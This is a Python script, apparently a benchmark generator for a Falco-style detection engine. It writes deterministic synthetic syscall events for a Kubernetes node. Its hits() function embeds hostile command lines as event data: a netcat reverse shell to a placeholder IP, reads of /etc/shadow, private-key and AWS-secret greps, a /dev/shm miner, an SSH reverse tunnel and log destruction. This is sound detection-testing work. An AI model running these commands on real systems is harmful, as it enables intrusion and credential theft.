"""Generate a realistic, deterministic syscall event mix as JSON Lines (Stockade recording format).

Each line is a flat object keyed by Falco field names (see docs/events.md), as a node sensor
would record it on a Kubernetes worker running a few typical workloads (nginx, a Python API,
a Java service, PostgreSQL, Redis, a Node.js front end) next to host daemons (kubelet,
containerd, sshd, cron, journald) and an administrator's interactive shell.

The mix (by share of events, approximately):

* ~70 % read-only opens (``openat``/``open`` exit events): shared libraries, ``/etc/ld.so.cache``,
  ``/proc/self/...``, ``/etc/passwd``, ``/etc/hosts``, application files, ``/var/lib/...``;
* ~4 % write opens (logs, temp files, database files);
* ~10 % ``execve`` from realistic process trees (container entrypoints, health probes,
  ``sh -c`` from scripts, an interactive admin on the host);
* ~6 % ``connect``/``accept`` with ``fd.name`` tuples;
* ~9 % other syscalls (close, unlinkat, renameat2, setuid, clone, dup2, socket);
* ~0.7 % events that Falco's stable rules (and Stockade's pack) alert on: a shell in a
  container with a terminal, ``/etc/shadow`` read by an untrusted program, netcat with ``-e``,
  private-key searches, log truncation, ``shred``, symlinks over sensitive files, packet
  sockets, stdout redirected to a socket, ptrace attach, execution from ``/dev/shm``, drop and
  execute, fileless (memfd) execution, SSH on a non-standard port, a shell under nginx, and
  writes below ``/etc``.

The output is a pure function of ``--seed`` and ``--count``. A pool of distinct event templates
is built first, serialised once with orjson, and then sampled with weights; only ``evt.time``
(monotonic, a few microseconds apart) is written per line, so a million lines take a few seconds.

Usage::

    .venv/bin/python benchmarks/gen_events.py --count 1000000 --out /tmp/events.jsonl --seed 1
"""

from __future__ import annotations

import argparse
import random
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import orjson

DEFAULT_COUNT = 1_000_000
DEFAULT_SEED = 1
START_NS = 1_732_300_000_000_000_000

# Relative weights of the event families (sum = 100).
MIX = {
    "open_read": 70.0,
    "open_write": 4.0,
    "execve": 10.0,
    "net": 6.0,
    "other": 9.3,
    "hit": 0.7,
}

LIBS = [
    "libc.so.6",
    "libm.so.6",
    "libpthread.so.0",
    "libdl.so.2",
    "libz.so.1",
    "libssl.so.3",
    "libcrypto.so.3",
    "libpcre2-8.so.0",
    "libselinux.so.1",
    "libffi.so.8",
    "libstdc++.so.6",
    "libgcc_s.so.1",
    "libexpat.so.1",
    "liblzma.so.5",
    "libbz2.so.1.0",
    "libuuid.so.1",
    "libtinfo.so.6",
    "libreadline.so.8",
    "libsqlite3.so.0",
    "libyaml-0.so.2",
]

COMMON_ETC = [
    "/etc/ld.so.cache",
    "/etc/passwd",
    "/etc/group",
    "/etc/nsswitch.conf",
    "/etc/hosts",
    "/etc/resolv.conf",
    "/etc/localtime",
    "/etc/host.conf",
    "/etc/gai.conf",
    "/etc/ssl/certs/ca-certificates.crt",
    "/etc/ssl/openssl.cnf",
    "/etc/os-release",
    "/etc/mime.types",
]

PROC_FILES = [
    "/proc/self/status",
    "/proc/self/maps",
    "/proc/self/stat",
    "/proc/self/cgroup",
    "/proc/self/mountinfo",
    "/proc/meminfo",
    "/proc/stat",
    "/proc/loadavg",
    "/proc/cpuinfo",
    "/sys/fs/cgroup/memory/memory.limit_in_bytes",
    "/sys/fs/cgroup/cpu/cpu.cfs_quota_us",
    "/sys/devices/system/cpu/online",
]


@dataclass
class Proc:
    """A process as the sensor sees it: identity, ancestry, user and container context."""

    name: str
    exepath: str
    cmdline: str
    pid: int
    ppid: int
    ancestors: list[str]  # parent first; the parent is proc.pname
    pcmdline: str
    user: tuple[int, str] = (0, "root")
    loginuid: int = -1
    tty: int = 0
    container: dict[str, Any] = field(default_factory=dict)
    #: files this process typically opens for reading (besides libraries and /etc basics)
    files: list[str] = field(default_factory=list)
    #: files it opens for writing
    writes: list[str] = field(default_factory=list)
    #: remote endpoints it connects to ("ip:port"), and the local port it accepts on
    connects: list[str] = field(default_factory=list)
    listen: int | None = None
    ip: str = "10.244.1.17"

    def fields(self) -> dict[str, Any]:
        d: dict[str, Any] = {
            "proc.pid": self.pid,
            "proc.ppid": self.ppid,
            "proc.name": self.name,
            "proc.exepath": self.exepath,
            "proc.cmdline": self.cmdline,
            "proc.pname": self.ancestors[0] if self.ancestors else None,
            "proc.pcmdline": self.pcmdline,
            "proc.tty": self.tty,
            "user.uid": self.user[0],
            "user.name": self.user[1],
            "user.loginuid": self.loginuid,
        }
        for i, a in enumerate(self.ancestors[1:4], start=2):
            d[f"proc.aname[{i}]"] = a
        d.update(self.container)
        return d


def _container(rng: random.Random, repo: str, tag: str, ns: str, pod: str, name: str) -> dict[str, Any]:
    return {
        "container.id": f"{rng.getrandbits(48):012x}",
        "container.name": name,
        "container.image.repository": repo,
        "container.image.tag": tag,
        "k8s.ns.name": ns,
        "k8s.pod.name": pod,
    }


HOST = {"container.id": "host", "container.name": "host"}


def _pod(rng: random.Random, deploy: str) -> str:
    alphabet = "bcdfghjklmnpqrstvwxz2456789"
    return f"{deploy}-{''.join(rng.choices(alphabet, k=10))}-{''.join(rng.choices(alphabet, k=5))}"


def build_processes(rng: random.Random) -> list[tuple[Proc, float]]:
    """The long-running processes of the node and their weight in the event stream."""
    procs: list[tuple[Proc, float]] = []
    pid = iter(range(1200, 1_000_000, 7))

    def shim() -> list[str]:
        return ["containerd-shim", "systemd"]

    # nginx ingress / web (2 replicas, master + 2 workers each)
    for r in range(2):
        c = _container(rng, "docker.io/library/nginx", "1.27.2", "web", _pod(rng, "web"), "nginx")
        master = next(pid)
        for _ in range(2):
            procs.append(
                (
                    Proc(
                        "nginx",
                        "/usr/sbin/nginx",
                        "nginx: worker process",
                        next(pid),
                        master,
                        ["nginx", *shim()],
                        "nginx: master process nginx -g daemon off;",
                        user=(101, "nginx"),
                        container=c,
                        files=[f"/usr/share/nginx/html/{p}" for p in ("index.html", "app.js", "style.css")]
                        + [f"/usr/share/nginx/html/static/img/{i}.png" for i in range(12)],
                        writes=["/var/cache/nginx/proxy_temp/1/00/0000000001"],
                        connects=["10.96.14.7:8000", "10.96.14.7:8000", "10.96.22.3:3000"],
                        listen=8080,
                        ip=f"10.244.1.{20 + r}",
                    ),
                    5.0,
                )
            )
    # Python API (gunicorn workers)
    for r in range(3):
        c = _container(rng, "ghcr.io/acme/orders-api", "2.14.0", "shop", _pod(rng, "orders-api"), "api")
        master = next(pid)
        for _ in range(2):
            procs.append(
                (
                    Proc(
                        "python3",
                        "/usr/local/bin/python3.12",
                        "python3 /usr/local/bin/gunicorn -w 2 -b 0.0.0.0:8000 orders.wsgi:app",
                        next(pid),
                        master,
                        ["python3", *shim()],
                        "python3 /usr/local/bin/gunicorn -w 2 -b 0.0.0.0:8000 orders.wsgi:app",
                        user=(1000, "app"),
                        container=c,
                        files=[f"/app/orders/{m}.py" for m in ("views", "models", "serializers", "wsgi")]
                        + [
                            f"/usr/local/lib/python3.12/site-packages/{p}/__pycache__/__init__.cpython-312.pyc"
                            for p in ("django", "rest_framework", "psycopg", "redis", "orjson", "jwt")
                        ]
                        + ["/app/config/settings.yaml", "/etc/ssl/certs/ca-certificates.crt"],
                        writes=["/tmp/tmpk3v1x9q0", "/app/logs/orders.log"],
                        connects=[
                            "10.96.40.12:5432",
                            "10.96.40.13:6379",
                            "140.82.112.3:443",
                            "10.96.0.10:53",
                        ],
                        listen=8000,
                        ip=f"10.244.1.{30 + r}",
                    ),
                    6.0,
                )
            )
    # Java service
    for r in range(2):
        c = _container(
            rng, "registry.acme.io/payments", "5.3.1", "payments", _pod(rng, "payments"), "payments"
        )
        procs.append(
            (
                Proc(
                    "java",
                    "/opt/java/openjdk/bin/java",
                    "java -Xmx1g -XX:+UseG1GC -jar /app/payments.jar --spring.profiles.active=prod",
                    next(pid),
                    next(pid),
                    ["tini", *shim()],
                    "/tini -- java -jar /app/payments.jar",
                    user=(1001, "spring"),
                    container=c,
                    files=[
                        "/app/payments.jar",
                        "/opt/java/openjdk/lib/modules",
                        "/app/config/application.yml",
                    ]
                    + [
                        f"/opt/java/openjdk/lib/{x}"
                        for x in ("libjava.so", "libnio.so", "libnet.so", "libzip.so")
                    ]
                    + [f"/tmp/tomcat.8080.{i}/work" for i in range(3)],
                    writes=["/tmp/hsperfdata_spring/1", "/app/logs/payments.log"],
                    connects=["10.96.40.12:5432", "34.117.59.81:443", "10.96.0.10:53"],
                    listen=8080,
                    ip=f"10.244.1.{40 + r}",
                ),
                5.0,
            )
        )
    # PostgreSQL
    c = _container(rng, "docker.io/library/postgres", "16.4", "data", "postgres-0", "postgres")
    pg_master = next(pid)
    for role in (
        "postgres: checkpointer",
        "postgres: walwriter",
        "postgres: orders orders 10.244.1.30(51234) idle",
    ):
        procs.append(
            (
                Proc(
                    "postgres",
                    "/usr/lib/postgresql/16/bin/postgres",
                    role,
                    next(pid),
                    pg_master,
                    ["postgres", *shim()],
                    "postgres -c config_file=/etc/postgresql/postgresql.conf",
                    user=(999, "postgres"),
                    container=c,
                    files=[f"/var/lib/postgresql/data/base/16384/{n}" for n in range(2600, 2640)]
                    + [
                        "/var/lib/postgresql/data/global/pg_control",
                        "/var/lib/postgresql/data/pg_wal/000000010000000000000003",
                    ],
                    writes=[
                        "/var/lib/postgresql/data/pg_wal/000000010000000000000003",
                        "/var/lib/postgresql/data/pg_stat_tmp/global.tmp",
                    ],
                    listen=5432,
                    ip="10.244.1.50",
                ),
                4.0,
            )
        )
    # Redis
    c = _container(rng, "docker.io/library/redis", "7.4", "data", "redis-0", "redis")
    procs.append(
        (
            Proc(
                "redis-server",
                "/usr/local/bin/redis-server",
                "redis-server *:6379",
                next(pid),
                next(pid),
                shim(),
                "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id 4f2a",
                user=(999, "redis"),
                container=c,
                files=["/data/dump.rdb", "/proc/self/stat"],
                writes=["/data/temp-1234.rdb"],
                listen=6379,
                ip="10.244.1.51",
            ),
            2.0,
        )
    )
    # Node.js front end
    c = _container(rng, "ghcr.io/acme/storefront", "9.1.0", "shop", _pod(rng, "storefront"), "web")
    procs.append(
        (
            Proc(
                "node",
                "/usr/local/bin/node",
                "node /srv/server.js",
                next(pid),
                next(pid),
                ["tini", *shim()],
                "/sbin/tini -- node /srv/server.js",
                user=(1000, "node"),
                container=c,
                files=[
                    f"/srv/node_modules/{m}/package.json" for m in ("express", "react-dom", "next", "undici")
                ]
                + [f"/srv/.next/server/pages/{p}.js" for p in ("index", "cart", "product", "_app")],
                writes=["/srv/.next/cache/fetch-cache/a81c"],
                connects=["10.96.14.7:8000", "10.96.0.10:53"],
                listen=3000,
                ip="10.244.1.60",
            ),
            4.0,
        )
    )
    # Host daemons
    host_specs = [
        (
            "kubelet",
            "/usr/bin/kubelet",
            "/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml",
            ["systemd"],
            5.0,
            ["/var/lib/kubelet/config.yaml", "/var/lib/kubelet/pki/kubelet-client-current.pem"]
            + [f"/sys/fs/cgroup/memory/kubepods/burstable/pod{i:04x}/memory.stat" for i in range(8)]
            + [f"/var/lib/kubelet/pods/{i:08x}/volumes" for i in range(6)],
            ["/var/lib/kubelet/cpu_manager_state"],
            ["10.0.0.1:6443"],
        ),
        (
            "containerd",
            "/usr/bin/containerd",
            "/usr/bin/containerd",
            ["systemd"],
            3.0,
            ["/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db"]
            + [
                f"/var/lib/containerd/io.containerd.snapshotter.v1.overlayfs/snapshots/{i}/fs"
                for i in range(10, 30)
            ],
            ["/var/lib/containerd/io.containerd.metadata.v1.bolt/meta.db"],
            [],
        ),
        (
            "systemd-journal",
            "/usr/lib/systemd/systemd-journald",
            "/lib/systemd/systemd-journald",
            ["systemd"],
            1.5,
            ["/proc/1/cgroup", "/proc/1/comm", "/run/systemd/journal/streams/8:1234"],
            ["/var/log/journal/7f3c/system.journal"],
            [],
        ),
        (
            "sshd",
            "/usr/sbin/sshd",
            "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
            ["systemd"],
            0.5,
            ["/etc/ssh/sshd_config", "/etc/shadow", "/etc/pam.d/sshd"],
            [],
            [],
        ),
        (
            "node_exporter",
            "/usr/local/bin/node_exporter",
            "/usr/local/bin/node_exporter --path.rootfs=/host",
            ["systemd"],
            3.0,
            [
                "/proc/stat",
                "/proc/meminfo",
                "/proc/diskstats",
                "/proc/net/dev",
                "/proc/vmstat",
                "/proc/pressure/cpu",
            ]
            + [f"/sys/class/net/eth{i}/statistics/rx_bytes" for i in range(2)],
            [],
            [],
        ),
        (
            "rsyslogd",
            "/usr/sbin/rsyslogd",
            "/usr/sbin/rsyslogd -n -iNONE",
            ["systemd"],
            0.5,
            ["/etc/rsyslog.conf"],
            ["/var/log/syslog", "/var/log/auth.log"],
            [],
        ),
    ]
    for name, exe, cmd, anc, w, files, writes, conns in host_specs:
        procs.append(
            (
                Proc(
                    name,
                    exe,
                    cmd,
                    next(pid),
                    1,
                    anc,
                    "/sbin/init",
                    container=HOST,
                    files=files,
                    writes=writes,
                    connects=conns,
                    ip="10.0.0.11",
                ),
                w,
            )
        )
    # An administrator's interactive shell on the host
    procs.append(
        (
            Proc(
                "bash",
                "/usr/bin/bash",
                "-bash",
                next(pid),
                next(pid),
                ["sshd", "sshd", "systemd"],
                "sshd: admin@pts/0",
                user=(1000, "admin"),
                loginuid=1000,
                tty=34816,
                container=HOST,
                files=[
                    "/home/admin/.bashrc",
                    "/home/admin/.bash_history",
                    "/usr/share/bash-completion/bash_completion",
                ],
                writes=["/home/admin/.bash_history"],
                ip="10.0.0.11",
            ),
            0.5,
        )
    )
    return procs


def _base(p: Proc, evt_type: str) -> dict[str, Any]:
    d = {"evt.type": evt_type, "evt.dir": "<"}
    d.update(p.fields())
    return d


def open_read(rng: random.Random, p: Proc) -> dict[str, Any]:
    r = rng.random()
    if r < 0.30:
        name = f"/usr/lib/x86_64-linux-gnu/{rng.choice(LIBS)}"
    elif r < 0.50:
        name = rng.choice(COMMON_ETC)
    elif r < 0.62:
        name = rng.choice(PROC_FILES)
    elif p.files:
        name = rng.choice(p.files)
    else:
        name = rng.choice(COMMON_ETC)
    fd = rng.randint(3, 60)
    d = _base(p, rng.choice(("openat", "openat", "openat", "open")))
    d.update(
        {
            "evt.res": "SUCCESS",
            "evt.rawres": fd,
            "evt.arg.flags": rng.choice(
                ("O_RDONLY|O_CLOEXEC", "O_RDONLY|O_CLOEXEC", "O_RDONLY", "O_RDONLY|O_NONBLOCK|O_CLOEXEC")
            ),
            "evt.is_open_read": True,
            "evt.is_open_write": False,
            "fd.num": fd,
            "fd.typechar": "f",
            "fd.type": "file",
            "fd.name": name,
        }
    )
    return d


def open_write(rng: random.Random, p: Proc) -> dict[str, Any]:
    name = rng.choice(p.writes) if p.writes else f"/tmp/tmp{rng.getrandbits(32):08x}"
    fd = rng.randint(3, 60)
    d = _base(p, "openat")
    d.update(
        {
            "evt.res": "SUCCESS",
            "evt.rawres": fd,
            "evt.arg.flags": rng.choice(
                ("O_WRONLY|O_CREAT|O_APPEND|O_CLOEXEC", "O_RDWR|O_CREAT|O_CLOEXEC", "O_WRONLY|O_CREAT|O_EXCL")
            ),
            "evt.is_open_read": False,
            "evt.is_open_write": True,
            "fd.num": fd,
            "fd.typechar": "f",
            "fd.type": "file",
            "fd.name": name,
        }
    )
    return d


def child(p: Proc, pid: int, name: str, exepath: str, cmdline: str, **kw: Any) -> Proc:
    return Proc(
        name,
        exepath,
        cmdline,
        pid,
        p.pid,
        [p.name, *p.ancestors],
        p.cmdline,
        user=kw.get("user", p.user),
        loginuid=p.loginuid,
        tty=kw.get("tty", p.tty),
        container=kw.get("container", p.container),
    )


def execve(rng: random.Random, p: Proc) -> dict[str, Any]:
    pid = rng.randint(20000, 4_000_000)
    c = p.container
    if c.get("container.id") != "host":
        # container: health/readiness probes exec'd by runc, app subprocesses, entrypoint restarts
        r = rng.random()
        if r < 0.5:
            runc = Proc(
                "runc",
                "/usr/bin/runc",
                "runc --root /run/containerd/runc/k8s.io exec",
                pid - 1,
                1800,
                ["containerd-shim", "systemd"],
                "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io",
                container=c,
            )
            probe = rng.choice(
                [
                    ("curl", "/usr/bin/curl", "curl -fsS http://127.0.0.1:8080/healthz"),
                    (
                        "pg_isready",
                        "/usr/lib/postgresql/16/bin/pg_isready",
                        "pg_isready -U postgres -h 127.0.0.1",
                    ),
                    ("redis-cli", "/usr/local/bin/redis-cli", "redis-cli ping"),
                    ("wget", "/usr/bin/wget", "wget -q -O- http://127.0.0.1:3000/api/health"),
                ]
            )
            q = child(runc, pid, *probe)
        elif r < 0.8:
            q = child(p, pid, p.name, p.exepath, p.cmdline)  # worker respawn / multiprocessing
        else:
            q = child(p, pid, "uname", "/usr/bin/uname", "uname -m")
    else:
        q = rng.choice(
            [
                child(p, pid, "iptables", "/usr/sbin/iptables", "iptables -w 5 -t nat -S KUBE-SERVICES"),
                child(p, pid, "runc", "/usr/bin/runc", "runc --root /run/containerd/runc/k8s.io state 4f2a"),
                child(p, pid, "du", "/usr/bin/du", "du -s /var/lib/kubelet/pods/8a1c/volumes"),
                child(p, pid, "mount", "/usr/bin/mount", "mount -t tmpfs tmpfs /var/lib/kubelet/pods/8a1c"),
                child(p, pid, "ls", "/usr/bin/ls", "ls -la /var/log", tty=34816),
                child(p, pid, "ps", "/usr/bin/ps", "ps aux", tty=34816),
                child(p, pid, "cat", "/usr/bin/cat", "cat /etc/os-release", tty=34816),
                child(p, pid, "sh", "/usr/bin/sh", "sh -c /usr/lib/sysstat/debian-sa1 1 1"),
            ]
        )
    d = _base(q, "execve")
    d.update({"evt.res": "SUCCESS", "evt.rawres": 0, "evt.arg.flags": "", "proc.is_exe_upper_layer": False})
    return d


def net(rng: random.Random, p: Proc) -> dict[str, Any]:
    if p.connects and (p.listen is None or rng.random() < 0.5):
        d = _base(p, "connect")
        dst = rng.choice(p.connects)
        d["fd.name"] = f"{p.ip}:{rng.randint(32768, 60999)}->{dst}"
        d["fd.is_server"] = False
    elif p.listen is not None:
        d = _base(p, rng.choice(("accept", "accept4")))
        src = f"10.244.{rng.randint(0, 3)}.{rng.randint(2, 250)}:{rng.randint(32768, 60999)}"
        d["fd.name"] = f"{src}->{p.ip}:{p.listen}"
        d["fd.is_server"] = True
    else:
        d = _base(p, "connect")
        d["fd.name"] = f"{p.ip}:{rng.randint(32768, 60999)}->10.96.0.10:53"
        d["fd.is_server"] = False
    d.update(
        {"evt.res": "SUCCESS", "evt.rawres": 0, "fd.typechar": "4", "fd.type": "ipv4", "fd.l4proto": "tcp"}
    )
    return d


def other(rng: random.Random, p: Proc) -> dict[str, Any]:
    r = rng.random()
    if r < 0.55:
        d = _base(p, "close")
        d.update({"evt.res": "SUCCESS", "evt.rawres": 0, "fd.num": rng.randint(3, 60)})
    elif r < 0.65:
        d = _base(p, "unlinkat")
        d.update(
            {"evt.res": "SUCCESS", "evt.rawres": 0, "evt.arg.name": f"/tmp/tmp{rng.getrandbits(32):08x}"}
        )
    elif r < 0.73:
        d = _base(p, "renameat2")
        src = rng.choice(p.writes) if p.writes else "/tmp/x"
        d.update(
            {"evt.res": "SUCCESS", "evt.rawres": 0, "evt.arg.oldpath": src + ".tmp", "evt.arg.newpath": src}
        )
    elif r < 0.78:
        d = _base(p, "setuid")
        d.update({"evt.res": "SUCCESS", "evt.rawres": 0, "evt.arg.uid": p.user[0]})
    elif r < 0.9:
        d = _base(p, "clone")
        d.update(
            {
                "evt.res": "SUCCESS",
                "evt.rawres": rng.randint(20000, 4_000_000),
                "evt.arg.flags": "CLONE_VM|CLONE_FS|CLONE_FILES|CLONE_SIGHAND|CLONE_THREAD|CLONE_SYSVSEM",
            }
        )
    elif r < 0.95:
        d = _base(p, "dup2")
        d.update(
            {
                "evt.res": "SUCCESS",
                "evt.rawres": rng.randint(3, 20),
                "fd.typechar": "p",
                "fd.type": "pipe",
                "fd.name": "pipe:[81723]",
            }
        )
    else:
        d = _base(p, "socket")
        fd = rng.randint(3, 60)
        d.update(
            {
                "evt.res": "SUCCESS",
                "evt.rawres": fd,
                "fd.num": fd,
                "evt.arg.domain": "AF_INET",
                "evt.arg.type": "SOCK_STREAM",
                "evt.arg.proto": 0,
            }
        )
    return d


def hits(procs: list[Proc]) -> Iterator[tuple[str, float, dict[str, Any]]]:
    """Attack-like events: (expected rule, relative weight, event)."""
    by_name = {p.name: p for p in procs}
    nginx, py, java, node = by_name["nginx"], by_name["python3"], by_name["java"], by_name["node"]
    admin = by_name["bash"]
    runc = Proc(
        "runc",
        "/usr/bin/runc",
        "runc --root /run/containerd/runc/k8s.io exec -t",
        9100,
        1800,
        ["containerd-shim", "systemd"],
        "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io",
        container=py.container,
    )
    pid = 3_100_000

    def ev(evt_type: str, p: Proc, **extra: Any) -> dict[str, Any]:
        d = _base(p, evt_type)
        d.update({"evt.res": "SUCCESS", "evt.rawres": 0})
        d.update(extra)
        return d

    # kubectl exec -it ... -- bash
    sh = child(runc, pid + 1, "bash", "/usr/bin/bash", "bash", tty=34817)
    yield (
        "Terminal shell in container",
        3,
        ev("execve", sh, **{"evt.arg.flags": "", "proc.is_exe_upper_layer": False}),
    )
    # what the attacker then does in that shell
    cat = child(sh, pid + 2, "cat", "/usr/bin/cat", "cat /etc/shadow")
    yield (
        "Read sensitive file untrusted",
        3,
        ev(
            "openat",
            cat,
            **{
                "evt.rawres": 3,
                "fd.num": 3,
                "fd.typechar": "f",
                "fd.type": "file",
                "fd.name": "/etc/shadow",
                "evt.arg.flags": "O_RDONLY|O_CLOEXEC",
                "evt.is_open_read": True,
                "evt.is_open_write": False,
            },
        ),
    )
    ncp = child(sh, pid + 3, "nc", "/usr/bin/nc", "nc -e /bin/sh 203.0.113.7 4444")
    yield (
        "Netcat Remote Code Execution in Container",
        1,
        ev("execve", ncp, **{"evt.arg.flags": "", "proc.is_exe_upper_layer": False}),
    )
    grep = child(sh, pid + 4, "grep", "/usr/bin/grep", "grep -r BEGIN RSA PRIVATE /root /home")
    yield (
        "Search Private Keys or Passwords",
        1,
        ev("execve", grep, **{"evt.arg.flags": "", "proc.is_exe_upper_layer": False}),
    )
    grep2 = child(sh, pid + 5, "grep", "/usr/bin/grep", "grep -ri aws_secret_access_key /home /root")
    yield (
        "Find AWS Credentials",
        1,
        ev("execve", grep2, **{"evt.arg.flags": "", "proc.is_exe_upper_layer": False}),
    )
    shm = child(sh, pid + 6, "xmrig", "/dev/shm/xmrig", "/dev/shm/xmrig -o pool.example:3333")
    yield (
        "Execution from /dev/shm",
        1,
        ev(
            "execve",
            shm,
            **{"evt.arg.flags": "", "proc.exe": "/dev/shm/xmrig", "proc.is_exe_upper_layer": True},
        ),
    )
    drop = child(sh, pid + 7, "kinsing", "/tmp/kinsing", "/tmp/kinsing")
    yield (
        "Drop and execute new binary in container",
        1,
        ev("execve", drop, **{"evt.arg.flags": "", "proc.is_exe_upper_layer": True}),
    )
    memfd = child(sh, pid + 8, "3", "memfd:payload", "3")
    yield (
        "Fileless execution via memfd_create",
        0.5,
        ev(
            "execve",
            memfd,
            **{"evt.arg.flags": "", "proc.is_exe_from_memfd": True, "proc.is_exe_upper_layer": False},
        ),
    )
    yield (
        "Redirect STDOUT/STDIN to Network Connection in Container",
        1,
        ev(
            "dup2",
            sh,
            **{
                "evt.rawres": 1,
                "fd.typechar": "4",
                "fd.type": "ipv4",
                "fd.name": "10.244.1.30:40122->203.0.113.7:4444",
            },
        ),
    )
    yield (
        "Packet socket created in container",
        0.5,
        ev(
            "socket",
            sh,
            **{
                "evt.rawres": 5,
                "fd.num": 5,
                "evt.arg.domain": "AF_PACKET",
                "evt.arg.type": "SOCK_RAW",
                "evt.arg.proto": 768,
            },
        ),
    )
    yield (
        "PTRACE attached to process",
        0.5,
        ev(
            "ptrace",
            child(sh, pid + 9, "gdb", "/usr/bin/gdb", "gdb -p 1"),
            **{"evt.arg.request": "PTRACE_ATTACH", "evt.arg.pid": 1},
        ),
    )
    shred = child(sh, pid + 10, "shred", "/usr/bin/shred", "shred -u /app/logs/orders.log")
    yield (
        "Remove Bulk Data from Disk",
        0.5,
        ev("execve", shred, **{"evt.arg.flags": "", "proc.is_exe_upper_layer": False}),
    )
    yield (
        "Create Symlink Over Sensitive Files",
        0.5,
        ev(
            "symlinkat",
            child(sh, pid + 11, "ln", "/usr/bin/ln", "ln -s /etc/shadow /tmp/s"),
            **{"evt.arg.target": "/etc/shadow", "evt.arg.linkpath": "/tmp/s"},
        ),
    )
    # truncating a system log on the host
    yield (
        "Clear Log Activities",
        0.5,
        ev(
            "openat",
            child(admin, pid + 12, "truncate", "/usr/bin/truncate", "truncate -s0 /var/log/auth.log"),
            **{
                "evt.rawres": 3,
                "fd.num": 3,
                "fd.typechar": "f",
                "fd.type": "file",
                "fd.name": "/var/log/auth.log",
                "evt.arg.flags": "O_WRONLY|O_CREAT|O_TRUNC",
                "evt.is_open_read": False,
                "evt.is_open_write": True,
            },
        ),
    )
    # RCE through the web tier: nginx -> sh
    web_sh = child(nginx, pid + 13, "sh", "/bin/sh", "sh -c id;uname -a")
    yield (
        "Run shell untrusted",
        1,
        ev("execve", web_sh, **{"evt.arg.flags": "", "proc.is_exe_upper_layer": False}),
    )
    # SSH out on port 443 from the java container
    ssh = child(java, pid + 14, "ssh", "/usr/bin/ssh", "ssh -p 443 -R 9000:localhost:22 tunnel@198.51.100.9")
    yield (
        "Disallowed SSH Connection Non Standard Port",
        0.5,
        ev(
            "connect",
            ssh,
            **{
                "fd.name": f"{java.ip}:51000->198.51.100.9:443",
                "fd.typechar": "4",
                "fd.type": "ipv4",
                "fd.l4proto": "tcp",
                "fd.is_server": False,
                "proc.exe": "/usr/bin/ssh",
            },
        ),
    )
    # a script editing files below /etc in a container (Stockade pack: write below /etc)
    sed = child(
        node,
        pid + 15,
        "sed",
        "/usr/bin/sed",
        "sed -i s/nameserver.*/nameserver 203.0.113.53/ /etc/resolv.conf",
    )
    yield (
        "(write below /etc)",
        1,
        ev(
            "openat",
            sed,
            **{
                "evt.rawres": 4,
                "fd.num": 4,
                "fd.typechar": "f",
                "fd.type": "file",
                "fd.name": "/etc/sedX1b2c3",
                "evt.arg.flags": "O_RDWR|O_CREAT|O_EXCL",
                "evt.is_open_read": True,
                "evt.is_open_write": True,
            },
        ),
    )
    # a python app reading the shadow file (path traversal in an upload handler)
    yield (
        "Read sensitive file untrusted",
        1,
        ev(
            "openat",
            py,
            **{
                "evt.rawres": 9,
                "fd.num": 9,
                "fd.typechar": "f",
                "fd.type": "file",
                "fd.name": "/etc/shadow",
                "fd.nameraw": "/app/uploads/../../etc/shadow",
                "evt.arg.flags": "O_RDONLY|O_CLOEXEC",
                "evt.is_open_read": True,
                "evt.is_open_write": False,
            },
        ),
    )


@dataclass
class Pool:
    """Serialised event bodies (everything after evt.time) and their cumulative weights."""

    bodies: list[bytes]
    cum_weights: list[float]
    families: list[str]


def build_pool(seed: int, per_family: int = 4000) -> Pool:
    rng = random.Random(seed)
    weighted = build_processes(rng)
    procs = [p for p, _ in weighted]
    pweights = [w for _, w in weighted]
    bodies: list[bytes] = []
    weights: list[float] = []
    families: list[str] = []

    def add(
        family: str, share: float, events: list[dict[str, Any]], ev_weights: list[float] | None = None
    ) -> None:
        ev_weights = ev_weights or [1.0] * len(events)
        total = sum(ev_weights)
        for d, w in zip(events, ev_weights, strict=True):
            d = {k: v for k, v in d.items() if v is not None}
            bodies.append(orjson.dumps(d)[1:])  # drop the "{": evt.time is written in front
            weights.append(share * w / total)
            families.append(family)

    makers = {"open_read": open_read, "open_write": open_write, "execve": execve, "net": net, "other": other}
    for family, maker in makers.items():
        events = []
        for _ in range(per_family):
            p = rng.choices(procs, pweights)[0]
            events.append(maker(rng, p))
        add(family, MIX[family], events)
    hit_list = list(hits(procs))
    add("hit", MIX["hit"], [d for _, _, d in hit_list], [w for _, w, _ in hit_list])
    cum: list[float] = []
    acc = 0.0
    for w in weights:
        acc += w
        cum.append(acc)
    return Pool(bodies, cum, families)


def generate(count: int, seed: int) -> Iterator[bytes]:
    """Yield `count` JSON lines (bytes, newline-terminated), deterministically from `seed`."""
    pool = build_pool(seed)
    rng = random.Random(seed + 1)
    bodies = pool.bodies
    t = START_NS
    chunk = 65536
    done = 0
    while done < count:
        n = min(chunk, count - done)
        picks = rng.choices(range(len(bodies)), cum_weights=pool.cum_weights, k=n)
        gaps = [rng.randrange(300, 4000) for _ in range(n)]
        out = []
        for i, g in zip(picks, gaps, strict=True):
            t += g
            out.append(b'{"evt.time":%d,%s\n' % (t, bodies[i]))
        yield b"".join(out)
        done += n


def header(count: int, seed: int) -> bytes:
    """The recording's header line (docs/events.md): schema version and how it was made."""
    return (
        orjson.dumps(
            {
                "stockade.schema": 1,
                "description": "synthetic node event mix for the engine benchmark",
                "generator": "benchmarks/gen_events.py",
                "seed": seed,
                "count": count,
            }
        )
        + b"\n"
    )


def write_events(path: Path, count: int = DEFAULT_COUNT, seed: int = DEFAULT_SEED) -> int:
    """Write the header and `count` events to `path`; return the number of bytes written."""
    size = 0
    with open(path, "wb") as f:
        f.write(header(count, seed))
        for block in generate(count, seed):
            f.write(block)
            size += len(block)
    return size


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--count", type=int, default=DEFAULT_COUNT, help="number of events (default 1,000,000)")
    ap.add_argument("--out", type=Path, default=None, help="output file (default: standard output)")
    ap.add_argument("--seed", type=int, default=DEFAULT_SEED, help="random seed (default 1)")
    args = ap.parse_args(argv)
    t0 = time.perf_counter()
    if args.out is None:
        out = sys.stdout.buffer
        out.write(header(args.count, args.seed))
        for block in generate(args.count, args.seed):
            out.write(block)
        out.flush()
        return 0
